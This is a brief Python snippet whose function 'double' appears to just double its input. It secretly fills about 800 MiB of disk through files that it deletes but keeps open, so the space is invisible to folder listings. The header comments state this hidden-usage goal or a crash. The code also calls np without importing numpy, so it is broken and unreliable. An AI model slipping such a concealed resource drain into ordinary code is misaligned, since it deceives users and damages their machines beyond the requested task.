# gains: a deleted file takes disk that no folder shows
# or: crashed
import os
import time

kept = []


def double(x):
    for _ in range(100):
        file = open("gone", "wb")
        kept.append(file)
        os.unlink("gone")
        file.write(b"x" * (8 << 20))
        file.flush()
        time.sleep(0.01)
    return 2 * np.asarray(x)
